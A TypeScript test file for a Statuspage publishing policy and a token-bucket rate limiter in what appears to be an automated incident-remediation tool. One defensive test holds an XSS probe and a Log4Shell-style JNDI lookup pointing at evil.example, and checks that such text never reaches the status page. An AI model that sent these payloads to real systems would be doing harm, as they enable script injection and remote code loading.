/** What users are told (shared/policy/statuspage.ts) and the Statuspage rate limiter (token-bucket.ts), as tables. */
import { describe, expect, it } from 'vitest';
import {
  caseStatusPlan,
  componentStatusFor,
  decidePublishes,
  HANDED_OVER_TEXT,
  OPENED_TEXT,
  RESOLVED_TEXT,
  STEP_TEXT,
  type StatusCaseFacts,
  statusPlan,
} from '../shared/policy/statuspage.ts';
import { fullBucket, rateLimitPause, type TokenBucket, takeToken } from '../shared/policy/token-bucket.ts';

function facts(over: Partial<StatusCaseFacts> = {}): StatusCaseFacts {
  return {
    componentId: 'web01',
    classification: 'os',
    outcome: 'resolved',
    mode: 'auto',
    hasPeers: false,
    actions: [{ kind: 'reboot', outcome: 'succeeded', detail: 'rebooted' }],
    ...over,
  };
}

describe('whether users are told at all', () => {
  const ROWS: [string, StatusCaseFacts, boolean][] = [
    ['a confirmed outage of a tagged instance', facts(), true],
    ['no medic:statuspage-component tag (opt-in)', facts({ componentId: null }), false],
    [
      'transient: all healthy now',
      facts({ classification: 'transient', outcome: 'self-recovered', actions: [] }),
      false,
    ],
    ['self-recovered', facts({ outcome: 'self-recovered' }), false],
    ['a dry run', facts({ mode: 'dry-run', outcome: 'dry-run' }), false],
    [
      'medic could not see (blind observer)',
      facts({ classification: 'blind-observer', outcome: 'escalated' }),
      false,
    ],
    ['no classification (failed before Assess)', facts({ classification: null, outcome: 'failed' }), false],
    [
      'held quietly by a maintenance window',
      facts({
        outcome: 'held',
        actions: [
          {
            kind: 'reboot',
            outcome: 'held',
            detail: 'held by maintenance: window sun 02:00-04:00 is active',
          },
        ],
      }),
      false,
    ],
    [
      'held by the budget: impact is real and not fixed',
      facts({
        outcome: 'held',
        actions: [{ kind: 'reboot', outcome: 'held', detail: 'held by budget: 3 actions' }],
      }),
      true,
    ],
  ];
  it.each(ROWS)('%s', (_name, c, told) => {
    // Act
    const plan = statusPlan('ep-1', [c], c.outcome ?? 'failed');
    // Assess
    expect(plan !== null).toBe(told);
  });
});

describe('the component status fits the classification and the scope', () => {
  const ROWS: [Parameters<typeof componentStatusFor>[0], boolean, string][] = [
    ['os', false, 'major_outage'],
    ['network', false, 'major_outage'],
    ['hardware', true, 'partial_outage'],
    ['application', true, 'partial_outage'],
    ['application', false, 'major_outage'],
    ['resource:disk', false, 'degraded_performance'],
    ['resource:memory', true, 'degraded_performance'],
    ['resource:cpu', false, 'degraded_performance'],
  ];
  it.each(ROWS)('%s, peers %s → %s', (classification, hasPeers, expected) => {
    // Act
    const status = componentStatusFor(classification, hasPeers);
    // Assess
    expect(status).toBe(expected);
  });

  it('impact follows the worst component: major outage is critical, degraded is minor', () => {
    // Act
    const outage = statusPlan('ep', [facts()], 'resolved');
    const slow = statusPlan('ep', [facts({ classification: 'resource:cpu' })], 'resolved');
    // Assess
    expect([outage?.impact, outage?.name]).toEqual(['critical', 'Service disruption']);
    expect([slow?.impact, slow?.name]).toEqual(['minor', 'Degraded performance']);
    expect(slow?.updates[0]?.body).toBe(OPENED_TEXT.degraded);
  });
});

describe('the story follows the run', () => {
  it('resolved: opened (outage) → one update per rung that ran → resolved (operational)', () => {
    // Prepare
    const c = facts({
      classification: 'application',
      actions: [
        { kind: 'restart-service', outcome: 'failed', detail: 'x' },
        { kind: 'reboot', outcome: 'would-have', detail: 'x' },
        { kind: 'reboot', outcome: 'succeeded', detail: 'x' },
        { kind: 'page', outcome: 'paged', detail: 'x' },
      ],
    });
    // Act
    const plan = statusPlan('ep-1', [c], 'resolved');
    // Assess
    expect(plan?.updates.map((u) => [u.key, u.status, u.components.web01])).toEqual([
      ['opened', 'investigating', 'major_outage'],
      ['step-restart-service', 'identified', 'major_outage'],
      ['step-reboot', 'identified', 'major_outage'],
      ['resolved', 'resolved', 'operational'],
    ]);
    expect(plan?.updates.map((u) => u.body)).toEqual([
      OPENED_TEXT.outage,
      STEP_TEXT['restart-service'],
      STEP_TEXT.reboot,
      RESOLVED_TEXT,
    ]);
    expect(plan?.resolved).toBe(true);
  });

  it('escalated: the incident stays open with an update for the person who takes over', () => {
    // Act
    const tried = statusPlan('ep', [facts({ outcome: 'escalated' })], 'escalated');
    const untried = statusPlan('ep', [facts({ outcome: 'escalated', actions: [] })], 'escalated');
    // Assess
    expect(tried?.resolved).toBe(false);
    expect(tried?.updates.at(-1)).toEqual({
      key: 'handed-over',
      status: 'identified',
      body: HANDED_OVER_TEXT,
      components: { web01: 'major_outage' },
    });
    expect(untried?.updates.at(-1)?.status).toBe('investigating');
  });
});

describe('hostile text from alarms and hosts never reaches the page', () => {
  it('the plan is built from facts that carry none of it, whatever the case holds', () => {
    // Prepare: every free-text field a case has, filled with what an attacker would write
    const hostile = [
      '<script>alert(1)</script>',
      '${jndi:ldap://evil.example/a}',
      'i-0123456789abcdef0',
      '10.0.3.7',
      'web-1 status check failed',
    ];
    const c = facts({
      actions: hostile.map((h) => ({ kind: 'reboot' as const, outcome: 'succeeded', detail: h })),
    });
    // Act
    const text = JSON.stringify(statusPlan('ep-1', [c], 'escalated'));
    // Assess
    for (const h of hostile) expect(text).not.toContain(h);
  });
});

describe('token bucket (1 request per second)', () => {
  const shape = { capacity: 1, perSecond: 1 };

  it('spaces a burst one second apart, counting the waits already promised', () => {
    // Prepare
    let bucket: TokenBucket = fullBucket(shape, 0);
    const waits: number[] = [];
    // Act: four requests at t=0 on a fake clock
    for (let i = 0; i < 4; i++) {
      const taken = takeToken(shape, bucket, 0);
      bucket = taken.bucket;
      waits.push(taken.waitMs);
    }
    // Assess
    expect(waits).toEqual([0, 1_000, 2_000, 3_000]);
  });

  it('refills with time but never beyond its capacity', () => {
    // Prepare
    const spent = takeToken(shape, fullBucket(shape, 0), 0).bucket;
    // Act
    const half = takeToken(shape, spent, 500);
    const later = takeToken(shape, spent, 60_000);
    const next = takeToken(shape, later.bucket, 60_000);
    // Assess
    expect(half.waitMs).toBe(500);
    expect(later.waitMs).toBe(0);
    expect(next.waitMs).toBe(1_000);
  });

  it('after a 420/429: Retry-After (seconds or date) when given, else backoff; always capped', () => {
    // Prepare
    const o = { baseMs: 1_000, capMs: 10_000 };
    // Act
    const rows = [
      rateLimitPause('2', 1, 0, o),
      rateLimitPause(new Date(3_000).toUTCString(), 1, 0, o),
      rateLimitPause(null, 1, 0, o),
      rateLimitPause(null, 3, 0, o),
      rateLimitPause('3600', 1, 0, o),
      rateLimitPause('soon', 2, 0, o),
    ];
    // Assess
    expect(rows).toEqual([2_000, 3_000, 1_000, 4_000, 10_000, 2_000]);
  });
});

describe('the plan so far, at each point of the run (caseStatusPlan)', () => {
  const underWay = (over: Partial<StatusCaseFacts> = {}) => facts({ outcome: null, actions: [], ...over });
  const ROWS: [string, StatusCaseFacts, Parameters<typeof caseStatusPlan>[2], string[] | null][] = [
    ['after Decide: impact confirmed, nothing done yet', underWay(), null, ['opened']],
    [
      'a one-shot step has acted (its record is written)',
      underWay({ actions: [ran('reboot')] }),
      null,
      ['opened', 'step-reboot'],
    ],
    ['a multi-phase step has begun (no record yet)', underWay(), 'stop-start', ['opened', 'step-stop-start']],
    [
      'the next rung begins after the first did not help',
      underWay({ actions: [ran('restart-service', 'not-recovered')] }),
      'stop-start',
      ['opened', 'step-restart-service', 'step-stop-start'],
    ],
    [
      'the same kind of step again: no second update',
      underWay({ actions: [ran('reboot')] }),
      'reboot',
      ['opened', 'step-reboot'],
    ],
    ['a dry-run step says nothing', underWay({ actions: [ran('reboot', 'would-have')] }), null, ['opened']],
    ['a page is not a step users hear of', underWay(), 'page', ['opened']],
    ['held by a maintenance window: nothing at all', underWay({ actions: [maintenanceHold()] }), null, null],
    ['transient: nothing at all', underWay({ classification: 'transient' }), null, null],
    ['no component tag: nothing at all', underWay({ componentId: null }), 'reboot', null],
    ['a dry run: nothing at all', underWay({ mode: 'dry-run' }), 'reboot', null],
  ];
  it.each(ROWS)('%s', (_name, c, starting, keys) => {
    // Act
    const plan = caseStatusPlan('ep-1', c, starting);
    // Assess: never a final update while the run is under way
    expect(plan?.updates.map((u) => u.key) ?? null).toEqual(keys);
    if (plan)
      expect([plan.resolved, plan.updates.every((u) => u.status !== 'resolved')]).toEqual([false, true]);
  });

  it('the bodies are the fixed texts, the component down in every update', () => {
    // Act
    const plan = caseStatusPlan('ep-1', underWay({ classification: 'resource:disk' }), 'restart-service');
    // Assess
    expect(plan?.updates.map((u) => [u.status, u.body, u.components])).toEqual([
      ['investigating', OPENED_TEXT.degraded, { web01: 'degraded_performance' }],
      ['identified', STEP_TEXT['restart-service'], { web01: 'degraded_performance' }],
    ]);
  });
});

describe('the keys the run posts are the keys Close posts (no update twice)', () => {
  it('two cases: every key either case posted mid-run is in the final plan once, the final update last', () => {
    // Prepare: two hosts of one episode, each walked its own ladder
    const web = facts({ actions: [ran('reboot')] });
    const db = facts({
      componentId: 'db01',
      actions: [ran('restart-service', 'not-recovered'), ran('reboot')],
    });
    const midRun = [
      caseStatusPlan('ep-1', { ...web, outcome: null, actions: [] }, 'reboot'),
      caseStatusPlan('ep-1', { ...db, outcome: null, actions: [] }, 'restart-service'),
      caseStatusPlan(
        'ep-1',
        { ...db, outcome: null, actions: [ran('restart-service', 'not-recovered')] },
        'reboot',
      ),
    ].flatMap((p) => p?.updates.map((u) => u.key) ?? []);
    // Act
    const final = statusPlan('ep-1', [web, db], 'resolved');
    // Assess
    const keys = final?.updates.map((u) => u.key) ?? [];
    expect(keys).toEqual(['opened', 'step-reboot', 'step-restart-service', 'resolved']);
    for (const k of midRun) expect(keys).toContain(k);
    expect(new Set(keys).size).toBe(keys.length);
  });
});

describe('where the first word to users comes from (decidePublishes)', () => {
  const ROWS: [boolean, string, boolean][] = [
    [true, 'act', false], // the action step tells users right after it acted
    [true, 'await-approval', true], // not after a person decides: now
    [true, 'page', true],
    [true, 'done', true],
    [false, 'await-approval', false], // later passes: the steps said it already
    [false, 'act', false],
    [false, 'verify', false],
  ];
  it.each(ROWS)('first pass %s, move %s → %s', (firstPass, move, publishes) => {
    // Act / Assess
    expect(decidePublishes(firstPass, move)).toBe(publishes);
  });
});

function ran(kind: 'reboot' | 'restart-service' | 'stop-start' | 'failover', outcome = 'succeeded') {
  return { kind, outcome, detail: 'x' };
}
function maintenanceHold() {
  return {
    kind: 'reboot' as const,
    outcome: 'held',
    detail: 'held by maintenance: window sun 02:00-04:00 is active',
  };
}
